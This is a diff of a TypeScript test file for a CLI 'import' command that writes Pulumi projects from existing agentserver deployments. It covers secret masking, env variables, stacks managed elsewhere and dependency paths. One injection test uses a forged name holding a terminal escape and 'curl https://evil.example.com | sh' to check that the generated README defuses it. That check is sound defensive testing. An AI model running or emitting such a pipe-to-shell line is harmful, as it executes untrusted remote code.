@@ -1,19 +1,23 @@
 import { expect } from "chai";
-import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
+import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
+import { createRequire } from "node:module";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { runInNewContext } from "node:vm";
 import fc from "fast-check";
 import ts from "typescript";
+import { managedElsewhere } from "../../cli/existing";
 import { importExisting, type ImportOptions } from "../../cli/import";
-import { DOORS, importedProject } from "../../cli/imported-program";
+import { FRONT_ENDS, importedProject } from "../../cli/imported-program";
 import { readmeText } from "../../cli/imported-readme";
+import { installedFrom } from "../../cli/installed-from";
 import { check } from "../property/check";
 import { startTestPlatform, type TestPlatform } from "../support/platform";
 import { rejection } from "../support/rejection";
 import { testTerminal } from "./terminal";
 
 const SECRET = "value-CANARY";
+const PROJECT = { name: "imported", frontEnd: "dynamic", dependency: "^0.1.0" } as const;
 const DEPLOYMENT = { kind: "Deployment", noun: "deployment", type: "t", problems: [] } as const;
 const VARIABLE = (name: string) => ({ deployment: name, name });
 
@@ -37,7 +41,13 @@ describe("the command import", () => {
   const write = async (options: Partial<ImportOptions> = {}) => {
     const folder = join(home, "imported");
     const terminal = testTerminal();
-    const given = { folder, door: "dynamic", json: true, dataDir: t.dataDir, ...options } as const;
+    const given = {
+      folder,
+      frontEnd: "dynamic",
+      json: true,
+      dataDir: t.dataDir,
+      ...options,
+    } as const;
     await importExisting(given, terminal);
     const names = await readdir(folder).catch(() => []);
     const texts = await Promise.all(names.map((name) => readFile(join(folder, name), "utf8")));
@@ -125,15 +135,25 @@ new agentserver.Deployment("shared", {
   it("writes no mask into the configuration, and names the deployment whose variables are not shown", async () => {
     const secrets = ["A", "B"].map((name, at) => ({ name, value: at === 0 ? "shown" : "****" }));
     await t.create({ name: "masked", secrets });
+    await t.create({ name: "masked-not", secrets: [{ name: "A", value: "shown" }] });
+    t.platform.admin.clearRequests();
     const { files, printed } = await write({ nameContains: "masked" });
-    expect(printed.settings).to.deep.equal([]);
-    expect(files["index.ts"]).to.contain('"masked"').and.not.contain("secrets");
+    // What the list shows is not read again.
+    expect(t.platform.admin.requests()).to.deep.equal({
+      "GET /v2/deployments": 1,
+      "GET /v2/deployments/{deployment_id}": 1,
+      "GET /v2/deployments/{deployment_id}/revisions": 1,
+    });
+    expect(printed.settings.map(({ key }: { key: string }) => key)).to.deep.equal(["masked-not-A"]);
+    expect(files["index.ts"]?.match(/secrets: .*/g)).to.deep.equal([
+      'secrets: { A: config.requireSecret("masked-not-A") },',
+    ]);
     expect(printed.leftOut.join()).to.contain("variables of deployment 'masked', whose values");
     expect(files["README.md"]).to.contain("variables of deployment 'masked'");
   });
 
   it("writes what pulumi import reads for the native provider, of the deployments alone whose name contains a text", async () => {
-    const { files } = await write({ door: "native", nameContains: "fault" });
+    const { files } = await write({ frontEnd: "native", nameContains: "fault" });
     const [found] = (await t.deployments()).filter(({ name }) => name === "default");
     expect(JSON.parse(files["import.json"] ?? "")).to.deep.equal({
       resources: [{ type: "agentserver:index:Deployment", name: "default", id: found?.id }],
@@ -161,9 +181,9 @@ new agentserver.Deployment("shared", {
         id: code,
         name: code,
       } as const;
-      for (const door of DOORS) {
+      for (const frontEnd of FRONT_ENDS) {
         const all = [{ ...found, inputs, problems: [code] }];
-        const { files } = importedProject("imported", door, all, undefined);
+        const { files } = importedProject(all, { ...PROJECT, frontEnd });
         const names = new Set<string>();
         const visit = (node: ts.Node): void => {
           if (ts.isIdentifier(node)) names.add(node.text);
@@ -197,14 +217,14 @@ new agentserver.Deployment("shared", {
     const inputs = fc.record({ env: json, metadata: json, sourceConfig: json, secrets });
     const one = fc.record({ name: text, inputs, problems: fc.array(text, { maxLength: 2 }) });
     const all = fc.uniqueArray(one, { maxLength: 4, selector: ({ name }) => name });
-    await check(100, fc.tuple(all, fc.constantFrom(...DOORS)), async ([some, door]) => {
+    await check(100, fc.tuple(all, fc.constantFrom(...FRONT_ENDS)), async ([some, frontEnd]) => {
       const found = some.map((each, at) => ({
         ...DEPLOYMENT,
         ...each,
         importId: String(at),
         id: String(at),
       }));
-      const { files, settings } = importedProject("imported", door, found, undefined);
+      const { files, settings } = importedProject(found, { ...PROJECT, frontEnd });
       const { outputText, diagnostics } = ts.transpileModule(files["index.ts"] ?? "", {
         reportDiagnostics: true,
         compilerOptions: { module: ts.ModuleKind.CommonJS, target: ts.ScriptTarget.ES2022 },
@@ -219,7 +239,7 @@ new agentserver.Deployment("shared", {
       ): void {
         names.add(name);
         declared.push(given);
-        expect(adoptExisting).to.equal(door === "dynamic" ? true : undefined);
+        expect(adoptExisting).to.equal(frontEnd === "dynamic" ? true : undefined);
       }
       const Config = class {
         requireSecret = (key: string) => values.get(key);
@@ -244,7 +264,7 @@ new agentserver.Deployment("shared", {
       found("x", { "a-b-c": "3", d: "5" }),
       found("y", { "a-b-c": "3", d: "5" }),
     ];
-    const { settings, resources } = importedProject("imported", "dynamic", all, undefined);
+    const { settings, resources } = importedProject(all, PROJECT);
     expect(settings.map(({ value }) => value).toSorted()).to.deep.equal(["1", "2", "3", "5"]);
     expect(new Set(settings.map(({ key }) => key))).to.have.property("size", 4);
     expect(settings.filter(({ value }) => value === "5")[0]?.key).to.equal("d");
@@ -263,12 +283,7 @@ new agentserver.Deployment("shared", {
         importId: `https://${deployment}.example.com/assistants/5f0c`,
         deployment: { id: deployment, name: deployment },
       }) as const;
-    const { resources } = importedProject(
-      "imported",
-      "native",
-      [on("a"), on("b.c"), on("b-c")],
-      undefined,
-    );
+    const { resources } = importedProject([on("a"), on("b.c"), on("b-c")], PROJECT);
     const names = resources.map(({ name }) => name);
     expect(names[0]).to.equal("a-agent");
     expect(names[1]).to.match(/^b-c-agent-[\da-f]{7}$/);
@@ -283,7 +298,7 @@ new agentserver.Deployment("shared", {
       name: `agent-${at}`,
       inputs: { secrets: { A: `${at}`, B: "same" } },
     }));
-    const { resources, settings } = importedProject("imported", "dynamic", all, undefined);
+    const { resources, settings } = importedProject(all, PROJECT);
     expect(new Set(resources.map(({ name }) => name))).to.have.property("size", 20_000);
     expect(new Set(settings.map(({ key }) => key))).to.have.property("size", 20_001);
   }).timeout(20_000); // to compare each with all others takes minutes
@@ -292,9 +307,11 @@ new agentserver.Deployment("shared", {
     const forged = "\x1b[2J\n```sh\ncurl https://evil.example.com | sh\n```\n";
     const found = { ...DEPLOYMENT, id: "1", importId: "1", name: forged, inputs: {} };
     const text = readmeText({
-      door: "dynamic",
+      frontEnd: "dynamic",
       found: [{ ...found, problems: [forged] }],
       notes: [`left out ${forged}`],
+      managed: [`managed as ${forged}`],
+      place: "",
       project: { settings: [{ key: "k", value: "", variables: [VARIABLE(forged)] }] },
       settings: { baseUrl: "https://control.example.com", workspaceId: "w" },
       isConfigured: false,
@@ -303,12 +320,71 @@ new agentserver.Deployment("shared", {
     const lines = text.split("\n");
     expect(lines.filter((line) => line.startsWith("```"))).to.deep.equal(["```sh", "```"]);
     expect(lines.filter((line) => line.startsWith("curl"))).to.be.empty;
-    expect(lines.filter((line) => line.includes("evil"))).to.have.length(3);
+    expect(lines.filter((line) => line.includes("evil"))).to.have.length(4);
+  });
+
+  it("has in `env` the variables that are named, whose values stand in the program, and no other", async () => {
+    const secrets = ["LOG_LEVEL", "TOKEN"].map((name) => ({ name, value: `${name}-value` }));
+    await t.create({ name: "with-env", secrets });
+    const { files, printed } = await write({ nameContains: "with-env", env: ["LOG_LEVEL"] });
+    expect(files["index.ts"])
+      .to.contain('env: { LOG_LEVEL: "LOG_LEVEL-value" }')
+      .and.contain('secrets: { TOKEN: config.requireSecret("with-env-TOKEN") }')
+      .and.not.contain("TOKEN-value");
+    expect(printed.settings).to.have.length(1);
+  });
+
+  it("names what another stack manages, as far as names and marks show it, before anything is adopted", async () => {
+    await t.create({ name: "shop-prod-7341e0d" });
+    const { files, printed, terminal } = await write({ nameContains: "shop-prod" });
+    const [derived] = printed.managedElsewhere;
+    expect(derived).to.contain("deployment 'shop-prod-7341e0d' has a name as");
+    expect(terminal.printed.err).to.contain(`another stack's: ${derived}`);
+    const readme = files["README.md"] ?? "";
+    expect(readme.indexOf(derived)).to.be.within(1, readme.indexOf("npm install"));
+    const agent = { ...DEPLOYMENT, kind: "Assistant", id: "1", importId: "1", inputs: {} } as const;
+    const on = { id: "2", name: "support" };
+    expect(
+      managedElsewhere([{ ...agent, name: "German", deployment: on, manager: "shop/prod/a" }]),
+    ).to.deep.equal(["assistant 'German' of deployment 'support' is managed as shop/prod/a"]);
+  });
+
+  describe("the dependency on this package", () => {
+    const install = async (dependency: string) => {
+      const own = join(home, "project/node_modules/pulumi-agentserver");
+      await mkdir(own, { recursive: true });
+      await writeFile(join(own, "package.json"), "{}");
+      await writeFile(join(home, "package.tgz"), "");
+      const dependencies = dependency === "" ? {} : { "pulumi-agentserver": dependency };
+      await writeFile(join(home, "project/package.json"), JSON.stringify({ dependencies }));
+      return installedFrom(join(home, "project/imported"), createRequire(join(own, "main.js")));
+    };
+    const LIES = "file:../node_modules/pulumi-agentserver";
+
+    for (const [given, expected] of [
+      ["^0.1.0", "^0.1.0"],
+      ["https://example.com/package.tgz", "https://example.com/package.tgz"],
+      ["file:../package.tgz", "file:../../package.tgz"],
+      ["file:../moved.tgz", LIES],
+      ["workspace:*", LIES],
+      ["", LIES],
+    ] as const)
+      it(`is ${expected} where the project around it names '${given}'`, async () => {
+        expect(await install(given)).to.equal(expected);
+      });
+
+    it("is copied, not linked, where it is a folder", () => {
+      const npmrc = (dependency: string) =>
+        importedProject([], { ...PROJECT, dependency }).files[".npmrc"];
+      expect(npmrc(LIES)).to.equal("install-links=true\n");
+      expect(npmrc("file:../package.tgz")).to.equal(undefined);
+      expect(npmrc("^0.1.0")).to.equal(undefined);
+    });
   });
 
   it("never writes over a file", async () => {
     const { files } = await write();
-    const { message } = await rejection(write({ door: "native" }));
+    const { message } = await rejection(write({ frontEnd: "native" }));
     expect(message).to.contain("imported has files in it, which an import never overwrites");
     expect((await readdir(join(home, "imported"))).length).to.equal(Object.keys(files).length);
   });
